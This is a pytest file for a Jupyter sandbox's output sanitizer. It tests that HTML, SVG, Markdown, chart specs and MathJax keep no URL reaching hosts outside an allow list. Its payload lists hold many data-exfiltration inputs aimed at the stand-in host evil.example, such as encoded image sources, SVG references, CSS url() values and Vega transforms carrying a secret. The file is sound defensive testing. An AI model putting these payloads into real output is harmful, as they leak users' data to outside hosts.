"""No URL in HTML, SVG, Markdown or a Vega/Plotly spec reaches a host outside allow_net."""

from __future__ import annotations

import re

import nh3
import pytest

from sandbox_kernel.jupyter.sanitize import (
    SVG_ATTRIBUTES,
    URL_ATTRIBUTES,
    OutputSanitizer,
    html_attributes,
)
from sandbox_kernel.jupyter.url_reach import Reach, target
from url_payloads import URL_CASES, Case

ALLOWED = "images.example.org"
S = OutputSanitizer(image_hosts=[ALLOWED])
PNG = "data:image/png;base64,iVBORw0KGgo="


def stays_or_allowed(case: Case) -> bool:
    return case.reach in (Reach.SAME_DOCUMENT, Reach.SAME_ORIGIN) or (
        case.reach is Reach.HOST and case.scheme in ("http", "https") and case.host == ALLOWED
    )


@pytest.mark.parametrize("case", URL_CASES, ids=[repr(c.url) for c in URL_CASES])
def test_images_and_links_keep_only_urls_that_stay_or_go_to_allow_net(case: Case) -> None:
    is_png = case.url.startswith("data:image/png")
    assert S.image_allowed(case.url) == (stays_or_allowed(case) or is_png)
    assert S.link_allowed(case.url) == stays_or_allowed(case)


def test_allow_net_hosts_match_as_the_browser_writes_them() -> None:
    sanitizer = OutputSanitizer(image_hosts=["Images.Example.ORG", "127.1", "::1"])
    for url in (
        "https://images.example.org./a.png",
        "HTTPS://IMAGES.EXAMPLE.ORG/a.png",
        "//images.example.org/a.png",
        "http:\\\\images.example.org/a.png",
        "http://evil.example@images.example.org/a.png",
        "http://2130706433/a.png",
        "http://[::1]:8000/a.png",
    ):
        assert sanitizer.image_allowed(url), url
    for url in ("ftp://images.example.org/a.png", "http://images.example.org.evil.example/", "ws://127.0.0.1/"):
        assert not sanitizer.image_allowed(url), url


# HTML that tries to reach evil.example: none of it may keep a URL to that host.
HTML_PAYLOADS = [
    '<img src="/\\evil.example/x?d=SECRET">',
    '<img src=" /\\evil.example/x?d=SECRET">',
    '<img src="&#x2F;&#x5C;evil.example/x">',
    '<img src="/&bsol;evil.example/x">',
    '<img src="&Tab;/&NewLine;/evil.example/x">',
    '<img src="h&Tab;ttp:/\\evil.example/x">',
    '<img src="http:evil.example/x">',
    '<img src="http://images.example.org@evil.example/x">',
    '<img src="http://evil.example\\@images.example.org/x">',
    '<img src="http://0x7f.1/x"><img src="http://%65vil.example/x">',
    '<img srcset="/\\evil.example/a 1x, data:image/png;base64,AAAA 2x">',
    '<img src="data:image/png;base64,AA" srcset="//evil.example/b 2x">',
    '<picture><source srcset="//evil.example/c"><img src="x.png"></picture>',
    '<video poster="//evil.example/p" src="//evil.example/v"><track src="//evil.example/t"></video>',
    '<audio src="//evil.example/a"></audio><input type="image" src="//evil.example/i">',
    '<table background="//evil.example/bg"><tr><td background="//evil.example/bg">x</td></tr></table>',
    '<img src="x.png" longdesc="//evil.example/l" lowsrc="//evil.example/l" dynsrc="//evil.example/d">',
    '<button formaction="//evil.example/f">b</button><object data="//evil.example/o"></object>',
    '<blockquote cite="/\\evil.example/c">q</blockquote><q cite="http://evil.example/">q</q>',
    '<del cite="//evil.example/">d</del><ins cite="//evil.example/">i</ins>',
    '<a href="/\\evil.example/x?d=SECRET">link</a><a href="https://evil.example/">link</a>',
    '<a href="mailto:me@evil.example">mail</a><a href="ftp://evil.example/">ftp</a>',
    '<area href="//evil.example/"><link rel="prefetch" href="//evil.example/">',
    '<div style="background:url(/\\evil.example/x)">x</div>',
]


@pytest.mark.parametrize("payload", HTML_PAYLOADS)
def test_html_keeps_no_url_to_another_host(payload: str) -> None:
    clean = S.html(payload)
    assert "evil" not in clean and "127.0.0.1" not in clean and "0x7f" not in clean, clean
    assert_no_url_leaves(clean)


def assert_no_url_leaves(clean: str) -> None:
    """Every URL-bearing attribute left in `clean`, parsed again as the browser will, stays on the page."""

    def check(tag: str, attribute: str, value: str) -> str:
        if attribute in URL_ATTRIBUTES and not value.startswith("data:image/png"):
            assert target(value).reach in (Reach.SAME_DOCUMENT, Reach.SAME_ORIGIN) or value.startswith(
                f"https://{ALLOWED}/"
            ), (tag, attribute, value)
        return value

    nh3.clean(clean, tags=set(nh3.ALLOWED_TAGS) | {"image", "use", "svg"}, attribute_filter=check)


def test_links_to_other_hosts_lose_their_href_and_keep_their_text() -> None:
    clean = S.html('<a href="https://evil.example/">docs</a> <a href="#s">here</a> <a href="notes.html">n</a>')
    assert clean == (
        '<a rel="noopener noreferrer nofollow">docs</a> <a href="#s" rel="noopener noreferrer nofollow">here</a> '
        '<a href="notes.html" rel="noopener noreferrer nofollow">n</a>'
    )


def test_what_stays_on_the_page_or_goes_to_allow_net_is_kept() -> None:
    clean = S.html(
        f'<img src="{PNG}"><img src="figures/a.png"><img src="?v=1"><img src="//{ALLOWED}/b.png">'
        f'<a href="https://{ALLOWED}/page">ok</a><q cite="#ref">q</q>'
    )
    for kept in (PNG, "figures/a.png", "?v=1", f"//{ALLOWED}/b.png", f"https://{ALLOWED}/page", "#ref"):
        assert f'"{kept}"' in clean, (kept, clean)


SVG_PAYLOADS = [
    '<svg><image href="/\\evil.example/x?d=SECRET" width="9" height="9"/></svg>',
    '<svg><image xlink:href=" //evil.example/x"/></svg>',
    '<svg><image href="&#x2F;&#x5C;evil.example/x"/></svg>',
    '<svg><use href="/\\evil.example/s.svg#a"/><use xlink:href="https://evil.example/s.svg#a"/></svg>',
    '<svg><linearGradient id="g" href="//evil.example/g.svg#g"/><pattern href="//evil.example/p#p"/></svg>',
    '<svg><text><textPath href="//evil.example/t#p">t</textPath></text></svg>',
    '<svg><a href="//evil.example/"><text>click</text></a><feImage href="//evil.example/f"/></svg>',
    '<svg><rect fill="url(//evil.example/f#x)" mask="url(/\\evil.example/m#m)"/></svg>',
]


@pytest.mark.parametrize("payload", SVG_PAYLOADS)
def test_svg_keeps_no_url_to_another_host(payload: str) -> None:
    clean = S.svg(payload)
    assert "evil" not in clean, clean


def test_svg_keeps_references_inside_the_document_and_data_images() -> None:
    clean = S.svg(f'<svg><use href="#m1"/><use xlink:href=" #m2"/><image href="{PNG}"/><rect fill="url(#g)"/></svg>')
    for kept in ('href="#m1"', 'href=" #m2"', f'href="{PNG}"', 'fill="url(#g)"'):
        assert kept in clean, (kept, clean)
    assert 'href="x.svg#a"' not in S.svg('<svg><use href="x.svg#a"/></svg>')  # not even the Jupyter server's


@pytest.mark.parametrize(
    "markdown",
    [
        "![x](/\\evil.example/x?d=SECRET)",
        "![x]( /\\evil.example/x)",
        "![x](&#x2F;&#x5C;evil.example/x)",
        "![x](/&bsol;evil.example/x)",
        "![x][r]\n\n[r]: //evil.example/x",
        "[x](/\\evil.example/x) and [y](https://evil.example/)",
        "[x]\n\n[x]: https://evil.example/",
        "<https://evil.example/x>",
        "<me@evil.example>",
        '<img src="/\\evil.example/x">',
    ],
)
def test_markdown_with_urls_becomes_html_without_them(markdown: str) -> None:
    kind, text = S.markdown(markdown)
    assert kind == "text/html"
    assert_no_url_leaves(text)  # markdown-it writes `/\` as `/%5C`: a path on the Jupyter server
    attributes = re.sub(r">[^<]*<", "><", text)  # the link text may still read evil.example
    assert "//evil" not in attributes and ":evil" not in attributes, text


@pytest.mark.parametrize(
    "markdown",
    [
        "see www.evil.example/x",  # GitHub-flavoured bare URLs: JupyterLab's marked makes them links
        "see https://evil.example/x",
        "see HTTP://evil.example/x",
        "see ftp://evil.example/x",
        "write to me@evil.example",
        "see //evil.example/x",
        "see mailto:me",
        "x &amp; y",
        "[a]: <//evil.example>",
    ],
)
def test_markdown_that_marked_would_link_is_not_passed_as_markdown(markdown: str) -> None:
    kind, text = S.markdown(markdown)
    assert kind == "text/html"
    assert "href" not in text, text


@pytest.mark.parametrize(
    "markdown",
    [
        "# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n*it* **bold** `code`",
        "$x^2$ and R&D, [1, 2] and a/b/c",
        "- item: value\n- ratio 3:2",
    ],
)
def test_markdown_without_urls_passes_as_markdown(markdown: str) -> None:
    assert S.markdown(markdown) == ("text/markdown", markdown)


def test_markdown_link_to_an_allowed_host_keeps_its_href() -> None:
    kind, text = S.markdown(f"[docs](https://{ALLOWED}/d) ![p](https://{ALLOWED}/p.png)")
    assert kind == "text/html"
    assert f'href="https://{ALLOWED}/d"' in text and f'src="https://{ALLOWED}/p.png"' in text


# Every attribute the cleaners let through either is judged as a URL or cannot hold one.
NOT_URLS = set(
    """align alt border cellpadding cellspacing char charoff class color colspan datetime details dir face headers
    height hreflang lang nowrap open reversed rowspan scope size span start style summary target title type valign
    value width""".split()
)
SVG_NOT_URLS = set(
    """id x y x1 y1 x2 y2 cx cy r rx ry dx dy d points transform viewBox preserveAspectRatio version fill
    fill-opacity fill-rule stroke stroke-width stroke-opacity stroke-linecap stroke-linejoin stroke-dasharray
    stroke-dashoffset stroke-miterlimit opacity clip-path clip-rule mask font-family font-size font-weight
    font-style text-anchor dominant-baseline alignment-baseline letter-spacing offset stop-color stop-opacity
    gradientUnits gradientTransform patternUnits patternTransform markerWidth markerHeight markerUnits orient
    refX refY marker-start marker-mid marker-end xmlns visibility display""".split()
)  # fill, clip-path, mask, marker-*: url() in them is the CSS rule's (only url(#id))


def test_every_allowed_attribute_is_judged_or_cannot_hold_a_url() -> None:
    html_kept = {a for attrs in html_attributes().values() for a in attrs} | {
        a for attrs in nh3.ALLOWED_ATTRIBUTES.values() for a in attrs
    }
    svg_attributes = {a for attrs in SVG_ATTRIBUTES.values() for a in attrs}
    assert html_kept - URL_ATTRIBUTES - NOT_URLS - {"details"} == set()
    assert svg_attributes - URL_ATTRIBUTES - NOT_URLS - SVG_NOT_URLS == set()


# ---- Vega, Vega-Lite and Plotly specs -----------------------------------------------------------------
VEGALITE = "application/vnd.vegalite.v5+json"
VEGA = "application/vnd.vega.v5+json"
PLOTLY = "application/vnd.plotly.v1+json"


def vegalite(data: dict[str, object], **extra: object) -> dict[str, object]:
    return {
        "$schema": "https://vega.github.io/schema/vega-lite/v5.20.1.json",
        "data": data,
        "mark": "bar",
        "encoding": {"x": {"field": "a", "type": "nominal", "title": "x:Q / y"}, "y": {"field": "b"}},
        **extra,
    }


@pytest.mark.parametrize(
    ("mime", "spec", "host"),
    [
        (VEGALITE, vegalite({"url": "https://cdn.jsdelivr.net/npm/vega-datasets/data/cars.json"}), "cdn.jsdelivr.net"),
        (VEGALITE, vegalite({"url": "/\\evil.example/x?d=SECRET"}), "evil.example"),
        (VEGALITE, vegalite({"url": " //evil.example/x"}), "evil.example"),
        (VEGALITE, vegalite({"values": [{"a": "x", "img": "http:evil.example/p.png"}]}), "evil.example"),
        (
            VEGALITE,
            vegalite({"values": []}, transform=[{"calculate": "'http://evil.example/?' + datum.a", "as": "u"}]),
            "evil.example",
        ),
        (
            VEGALITE,
            vegalite({"values": []}, usermeta={"embedOptions": {"loader": {"baseURL": "//evil.example/"}}}),
            "evil.example",
        ),
        (VEGA, {"data": [{"name": "t", "url": "HTTP://EVIL.EXAMPLE./d.csv"}]}, "evil.example"),
        (VEGA, {"data": [{"name": "t", "values": [{"http://evil.example/k": 1}]}]}, "evil.example"),
        (PLOTLY, {"data": [], "layout": {"images": [{"source": "https://evil.example/i.png"}]}}, "evil.example"),
        (
            PLOTLY,
            {"data": [], "layout": {"annotations": [{"text": "<a href='//evil.example/'>x</a>"}]}},
            "evil.example",
        ),
        (PLOTLY, {"data": [], "layout": {"mapbox": {"style": "mapbox://styles/x"}}}, "styles"),
        (PLOTLY, {"data": [], "layout": {"title": "<a href='&#x2F;&#x5C;evil.example/'>x</a>"}}, "evil.example"),
        (VEGA, {"data": [{"name": "t", "url": "h\tttp:evil.example/d.csv"}]}, "evil.example"),
        (VEGA, {"signals": [{"name": "u", "update": "'ftp:' + '//evil.example/'"}]}, "evil.example"),
        (PLOTLY, {"data": [], "layout": {"title": "http://evil example/"}}, "evil example"),
    ],
)
def test_specs_naming_another_host_are_dropped_with_the_reason(mime: str, spec: object, host: str) -> None:
    clean = S.bundle({"text/plain": "chart", mime: spec})
    assert clean.data == {"text/plain": "chart"}
    assert clean.dropped == [mime]
    reason = clean.reasons[mime]
    assert reason.startswith("it names ") and host in reason
    assert reason.endswith(
        "not in SandboxKernel.allow_net (the browser would fetch it, and a URL can carry the sandbox's data out)"
    )


@pytest.mark.parametrize(
    ("mime", "spec"),
    [
        (VEGALITE, vegalite({"url": "data/cars.json"})),
        (VEGALITE, vegalite({"url": f"https://{ALLOWED}/cars.json"})),
        (VEGALITE, vegalite({"values": [{"a": "C:\\temp", "b": 1}, {"a": "ratio 3:2", "b": "a/b"}]})),
        (PLOTLY, {"data": [{"x": list(range(1000)), "y": [0.5] * 1000, "text": ["a"] * 1000}], "layout": {}}),
    ],
)
def test_specs_that_stay_on_the_page_or_allow_net_pass_unchanged(mime: str, spec: object) -> None:
    clean = S.bundle({mime: spec})
    assert clean.data == {mime: spec}
    assert clean.dropped == [] and clean.reasons == {}


def test_a_spec_too_large_to_check_is_dropped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sandbox_kernel.jupyter.sanitize.MAX_SPEC_NODES", 100)
    clean = S.bundle({PLOTLY: {"data": [{"y": list(range(200))}]}})
    assert clean.dropped == [PLOTLY]
    assert clean.reasons[PLOTLY] == "it holds more than 100 values, too many to check for URLs to other hosts"


def test_json_and_latex_pass_as_they_are() -> None:
    data = {"application/json": {"u": "https://evil.example/"}, "text/latex": r"$\text{https://evil.example}$"}
    assert S.bundle(data).data == data


def test_escaped_payload_in_a_notice_stays_one_line() -> None:
    clean = S.bundle({VEGA: {"data": [{"url": "http://a\nb c/"}]}})
    assert "\n" not in clean.reasons[VEGA]


# ---- MathJax ------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("mime", "value", "gone"),
    [
        ("text/html", r"<p>$\style{cursor: url(//evil.example/c), auto}{x}$</p>", r"\style"),
        ("text/html", r"<p>$\href{//evil.example/}{x}$ $\cssId{jupyter-config-data}{y}$</p>", r"\href"),
        ("text/html", r"<p>$&#92;class{jp-Dialog}{x}$</p>", r"\class"),
        ("text/html", r"<p>$\sty<wbr>le{cursor: url(//evil.example/c), auto}{x}$</p>", r"\sty<wbr>le"),
        ("text/markdown", r"a $\style{cursor: url(x.cur), auto}{x}$", r"\style"),
        ("text/markdown", r"see $\href{//evil.example/}{x}$", r"\href"),
        ("text/latex", r"$\mmlToken{mi}[href=//evil.example]{x} \require{x} \data{a=b}{c}$", r"\mmlToken"),
    ],
)
def test_mathjax_commands_that_reach_out_are_made_plain(mime: str, value: str, gone: str) -> None:
    clean = S.bundle({mime: value}).data
    (text,) = clean.values()
    assert gone not in text, text
    for command in ("style", "href", "class", "cssId", "mmlToken", "require", "data"):
        assert f"\\{command}" not in text.replace("\\ ", ""), text


def test_ordinary_math_keeps_its_commands() -> None:
    math = r"$\alpha^2 + \frac{1}{2}\hrefs \styled$"
    assert S.bundle({"text/latex": math}).data == {"text/latex": math}
    assert S.markdown(math) == ("text/markdown", math)
    assert S.html(f"<p>{math}</p>") == f"<p>{math}</p>"
